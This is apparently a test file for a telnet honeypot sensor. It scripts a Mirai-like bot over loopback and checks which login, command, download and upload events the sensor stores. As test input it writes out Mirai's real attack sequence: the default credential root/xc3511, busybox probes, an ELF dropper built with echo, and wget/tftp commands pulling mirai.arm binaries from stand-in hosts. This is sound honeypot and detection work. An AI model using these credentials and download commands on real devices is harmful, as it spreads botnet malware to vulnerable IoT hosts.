/**
 * A scripted Mirai-like client over loopback against the real sensor, its journal shipped into
 * real embedded stores: the exact events stored, and the answers Mirai checks.
 */
import { createHash } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempStores, type TempStores } from '../../store/testing/temp-stores.js';
import { startSensor, type Sensor } from './sensor.js';
import { toTarget } from './journal-shipper.js';
import { storesTarget } from './store-chunk.js';
import { TelnetClient } from './testing/telnet-client.js';
import { FirstValidLogins, unit } from './valid-login-rejection.js';

let stores: TempStores;
let sensor: Sensor;
let spool: string;

beforeAll(async () => {
  stores = await tempStores('sensor-mirai');
  spool = await mkdtemp(join(tmpdir(), 'sakimori-spool-'));
  sensor = await startSensor({
    telnet: { host: '127.0.0.1', port: 0 }, name: 'test-sensor', spool,
    ship: toTarget(storesTarget(stores)),
  });
});
afterAll(async () => {
  await sensor?.stop();
  await stores?.dispose();
  await rm(spool, { recursive: true, force: true });
});

interface Stored { kind: string; username: string; password: string; success: number; input: string; url: string; url_host: string; sha256: string; size: string; proto: string; sensor: string; detail: string }

describe('the sensor against a Mirai-like client', () => {
  it('answers what Mirai checks and stores exactly the events of the session', async () => {
    const c = await TelnetClient.open(sensor.telnetPort);
    let at = await c.waitFor('login: ', 5000, 0);
    c.send('root\r\n');
    at = await c.waitFor('Password: ', 5000, at);
    c.send('wrong\r\n');
    at = await c.waitFor('Login incorrect', 5000, at);
    at = await c.waitFor('login: ', 5000, at);
    c.send('root\r\n');
    at = await c.waitFor('Password: ', 5000, at);
    c.send('xc3511\r\n');
    await c.waitFor('# ', 5000, at);
    for (const cmd of ['enable', 'system', 'shell', 'sh']) expect(await c.command(cmd)).toBe(`${cmd}\r\n`);
    expect(await c.command('/bin/busybox ECCHI')).toBe('/bin/busybox ECCHI\r\nECCHI: applet not found\r\n');
    const mounts = await c.command('/bin/busybox cat /proc/mounts; /bin/busybox ECCHI');
    expect(mounts).toContain('tmpfs /tmp tmpfs rw');
    expect(mounts).toMatch(/ECCHI: applet not found\r\n$/);
    expect(await c.command("/bin/busybox echo -e '\\x41\\x4b\\x34\\x37' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon"))
      .toMatch(/\r\nAK47\r\n$/);
    await c.command("cd /tmp; >dvrHelper; /bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01' >> dvrHelper; /bin/busybox echo -ne '\\x02\\x03' >> dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
    const wget = await c.command('/bin/busybox wget http://198.51.100.7/bins/mirai.arm7 -O - > dvrHelper2; /bin/busybox ECCHI');
    expect(wget).toContain("wget: can't connect to remote host (198.51.100.7)");
    expect(await c.command('/bin/busybox tftp -g -l dvrHelper3 -r mirai.arm 198.51.100.8; /bin/busybox ECCHI')).toContain('tftp: timeout');
    expect(await c.command('whatever --x')).toContain('sh: whatever: not found');
    c.send('exit\r\n');
    await new Promise((r) => c.socket.once('close', r));
    await new Promise((r) => setTimeout(r, 50));
    await sensor.ship();

    const rows = await stores.events.query<Stored>(
      "SELECT kind, username, password, success, input, url, url_host, sha256, toString(size) AS size, proto, sensor, detail FROM honeypot_events");
    const dropper = createHash('sha256').update(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x01, 0x02, 0x03])).digest('hex');
    const brief = rows.map((r) => [r.kind, r.username, r.password, r.success, r.input, r.url, r.url_host, r.sha256, r.size].join('|')).sort();
    expect(brief).toEqual([
      'command|||0|/bin/busybox ECCHI||||0',
      'command|||0|/bin/busybox cat /proc/mounts; /bin/busybox ECCHI||||0',
      "command|||0|/bin/busybox tftp -g -l dvrHelper3 -r mirai.arm 198.51.100.8; /bin/busybox ECCHI||||0",
      'command|||0|/bin/busybox wget http://198.51.100.7/bins/mirai.arm7 -O - > dvrHelper2; /bin/busybox ECCHI||||0',
      "command|||0|cd /tmp; >dvrHelper; /bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01' >> dvrHelper; /bin/busybox echo -ne '\\x02\\x03' >> dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI||||0",
      'command|||0|whatever --x||||0',
      "command|||1|/bin/busybox echo -e '\\x41\\x4b\\x34\\x37' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon||||0",
      'command|||1|enable||||0',
      'command|||1|exit||||0',
      'command|||1|shell||||0',
      'command|||1|sh||||0',
      'command|||1|system||||0',
      'download|||-1|/bin/busybox tftp -g -l dvrHelper3 -r mirai.arm 198.51.100.8|tftp://198.51.100.8/mirai.arm|198.51.100.8||0',
      'download|||-1|/bin/busybox wget http://198.51.100.7/bins/mirai.arm7 -O - >dvrHelper2|http://198.51.100.7/bins/mirai.arm7|198.51.100.7||0',
      'login|root|wrong|0|||||0',
      'login|root|xc3511|1|||||0',
      'session.close|||-1|||||0',
      'session.connect|||-1|||||0',
      `upload|||-1|/bin/busybox chmod 777 dvrHelper|||${dropper}|7`,
    ]);
    expect(new Set(rows.map((r) => r.proto))).toEqual(new Set(['telnet']));
    expect(new Set(rows.map((r) => r.sensor))).toEqual(new Set(['test-sensor']));
    expect(JSON.parse(rows.find((r) => r.kind === 'session.close')?.detail ?? '{}')).toMatchObject({ reason: 'exit' });
    expect(JSON.parse(rows.find((r) => r.kind === 'upload')?.detail ?? '{}')).toMatchObject({ path: '/tmp/dvrHelper', trigger: 'chmod' });
  });
});

describe('valid logins refused the first time from an address', () => {
  /** A Mirai-like login with one pair; the text the sensor answered. */
  async function tryLogin(port: number, user: string, pass: string): Promise<{ c: TelnetClient; accepted: boolean }> {
    const c = await TelnetClient.open(port);
    let at = await c.waitFor('login: ', 5000, 0);
    c.send(`${user}\r\n`);
    at = await c.waitFor('Password: ', 5000, at);
    c.send(`${pass}\r\n`);
    const answer = await Promise.race([c.waitFor('# ', 5000, at).then(() => true), c.waitFor('Login incorrect', 5000, at).then(() => false)]);
    return { c, accepted: answer };
  }
  /** A seed under which 127.0.0.1 is refused (or not) at this fraction. */
  const seedFor = (refused: boolean, fraction: number): string => {
    for (let i = 0; ; i++) if ((unit(`s${i}`, '127.0.0.1') < fraction) === refused) return `s${i}`;
  };

  it('refuses the chosen share of addresses, deterministically under a seed', () => {
    const policy = new FirstValidLogins({ fraction: 0.3, seed: 'fixed' });
    let refused = 0;
    for (let i = 0; i < 10_000; i++) if (policy.refuses(`10.0.${i >> 8}.${i & 255}`)) refused++;
    expect(refused).toBeGreaterThan(2_800);
    expect(refused).toBeLessThan(3_200);
    // The same seed refuses the same addresses; an address refused once is never refused again.
    const again = new FirstValidLogins({ fraction: 0.3, seed: 'fixed' });
    let same = 0;
    for (let i = 0; i < 10_000; i++) if (again.refuses(`10.0.${i >> 8}.${i & 255}`)) same++;
    expect(same).toBe(refused);
    expect([...Array(100).keys()].some((i) => policy.refuses(`10.0.${i >> 8}.${i & 255}`))).toBe(false);
    expect(() => new FirstValidLogins({ fraction: 1.5 })).toThrow(/between 0 and 1/);
  });

  it('answers the first valid pair "Login incorrect", records it failed, and lets the retry in', async () => {
    const spoolR = await mkdtemp(join(tmpdir(), 'sakimori-spool-reject-'));
    const refusing = await startSensor({
      telnet: { host: '127.0.0.1', port: 0 }, name: 'reject-sensor', spool: spoolR,
      ship: toTarget(storesTarget(stores)), rejectValid: { fraction: 0.5, seed: seedFor(true, 0.5) },
    });
    try {
      // A wrong pair does not use up the address's refusal; the first valid one does.
      const first = await tryLogin(refusing.telnetPort, 'root', 'nope');
      expect(first.accepted).toBe(false);
      let at = await first.c.waitFor('login: ', 5000, first.c.text.lastIndexOf('Login incorrect'));
      first.c.send('root\r\n');
      at = await first.c.waitFor('Password: ', 5000, at);
      first.c.send('xc3511\r\n');
      at = await first.c.waitFor('Login incorrect', 5000, at);
      // As Mirai does, the bot reconnects and tries again: now it gets in, with the same pair or another.
      first.c.socket.destroy();
      const retry = await tryLogin(refusing.telnetPort, 'root', 'xc3511');
      expect(retry.accepted).toBe(true);
      retry.c.send('exit\r\n');
      const later = await tryLogin(refusing.telnetPort, 'admin', 'admin');
      expect(later.accepted).toBe(true);
      later.c.send('exit\r\n');
      await new Promise((r) => setTimeout(r, 100));
      expect(refusing.telnet.counters).toMatchObject({ logins: 4, loginsAccepted: 2, loginsValidRefused: 1 });
      await refusing.ship();
      const rows = await stores.events.query<{ username: string; password: string; success: number; detail: string }>(
        "SELECT username, password, success, detail FROM honeypot_events WHERE sensor = 'reject-sensor' AND kind = 'login' ORDER BY ts");
      expect(rows).toEqual([
        { username: 'root', password: 'nope', success: 0, detail: '' },
        { username: 'root', password: 'xc3511', success: 0, detail: '{"validRefused":true}' },
        { username: 'root', password: 'xc3511', success: 1, detail: '' },
        { username: 'admin', password: 'admin', success: 1, detail: '' },
      ]);
    } finally {
      await refusing.stop();
      await rm(spoolR, { recursive: true, force: true });
    }

    // Under a seed that does not pick this address (and with the option off) the first valid pair gets in.
    for (const rejectValid of [{ fraction: 0.5, seed: seedFor(false, 0.5) }, { fraction: 0 }]) {
      const spoolA = await mkdtemp(join(tmpdir(), 'sakimori-spool-admit-'));
      const admitting = await startSensor({ telnet: { host: '127.0.0.1', port: 0 }, name: 'admit-sensor', spool: spoolA, rejectValid });
      try {
        const s = await tryLogin(admitting.telnetPort, 'root', 'xc3511');
        expect(s.accepted).toBe(true);
        s.c.socket.destroy();
      } finally {
        await admitting.stop();
        await rm(spoolA, { recursive: true, force: true });
      }
    }
  }, 60_000);
});
